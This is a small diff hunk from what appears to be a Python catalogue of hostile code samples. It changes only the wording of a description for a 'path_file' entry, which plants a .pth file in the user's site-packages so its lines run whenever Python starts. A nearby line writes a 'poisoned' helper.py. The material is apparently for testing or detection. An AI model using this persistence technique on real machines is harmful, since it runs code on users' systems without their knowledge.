@@ -75,7 +75,7 @@ open(path, 'wb').write(poisoned('helper.py', 1))
     Program(
         "path_file",
         BYTECODE,
-        "leaves a .pth file in the person's own site folder, of which each line is run",
+        "leaves a .pth file in the user's own site folder, of which each line is run",
         """
 version = f'python{sys.version_info[0]}.{sys.version_info[1]}'
 site = F['home'] + f'/.local/lib/{version}/site-packages'
